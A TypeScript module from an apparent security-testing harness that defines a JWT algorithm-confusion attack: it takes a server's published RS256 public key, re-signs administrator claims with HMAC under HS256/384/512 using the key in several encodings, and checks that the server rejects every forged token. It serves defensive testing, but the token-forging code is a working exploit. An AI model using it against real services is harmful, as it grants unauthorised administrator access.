import { createHmac, type KeyObject } from 'node:crypto';
import type { Attack } from '../../kinds/attack.ts';
import { type Json, readCompact, signingInput } from '../../kit/tokens/compact-token.ts';
import type { ForgedToken } from '../../kit/tokens/forged-token.ts';
import {
  accessTokenOf,
  asAdmin,
  judgePresented,
  present,
  statesClaims,
  type TokensSeen,
} from '../../kit/tokens/presented-token.ts';
import { publishedKey } from '../../kit/tokens/public-keys.ts';

const hashes = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' } as const;

export default {
  kind: 'attack',
  id: 'jwt-alg-confusion',
  title: 'Algorithm confusion',
  question: 'Can a token name an algorithm under which the public key is the secret?',
  goal: 'Become an administrator with a token signed by what everybody may know: the public key.',
  precondition: 'own-account',
  severity: 'critical',
  references: ['CWE-347', 'CVE-2015-9235', 'RFC 8725 §2.1', 'RFC 8725 §3.1', 'ASVS 9.1.2', 'WSTG-SESS-10'],
  steps: [
    'The server signs with RS256 and publishes its public key as a JWK set.',
    "The attacker signs the administrator's claims with HMAC, under HS256, HS384 and HS512, with the public key as secret: PEM with and without its last line break, with CRLF, DER, PKCS #1, JWK and modulus.",
    'He asks with each token who he is; at last once more with the genuine one.',
  ],
  controls: ['jwt-alg-from-token'],
  needs: { settings: { algorithm: 'RS256' } },
  appliesTo: statesClaims,
  expected: () => 'blocked',

  async attempt(stage) {
    const held = await stage.signIn(stage.attacker);
    const { jwk, key } = await publishedKey(stage);
    const { header, payload } = readCompact(accessTokenOf(held));
    return present(stage, held, confusions(header, asAdmin(stage, payload), secretsOf(key, jwk)));
  },

  judge: (seen) => judgePresented(seen, 'tokens signed with the public key'),
} satisfies Attack<TokensSeen>;

/** The texts and bytes under which a library may hold a public key in memory. */
function secretsOf(key: KeyObject, jwk: Json): Record<string, string | Buffer> {
  const pem = String(key.export({ type: 'spki', format: 'pem' }));
  return {
    PEM: pem,
    'PEM without its last line break': pem.trimEnd(),
    'PEM with CRLF': pem.replaceAll('\n', '\r\n'),
    'PEM of PKCS #1': String(key.export({ type: 'pkcs1', format: 'pem' })),
    DER: key.export({ type: 'spki', format: 'der' }),
    JWK: JSON.stringify(jwk),
    modulus: Buffer.from(String(jwk.n), 'base64url'),
  };
}

function confusions(header: Json, payload: Json, secrets: Readonly<Record<string, string | Buffer>>): ForgedToken[] {
  return Object.entries(hashes).flatMap(([alg, hash]) =>
    Object.entries(secrets).map(([form, secret]) => {
      const input = signingInput({ ...header, alg }, payload);
      const signature = createHmac(hash, secret).update(input).digest('base64url');
      return { mutation: `${alg} under the public key as ${form}`, token: `${input}.${signature}` };
    }),
  );
}
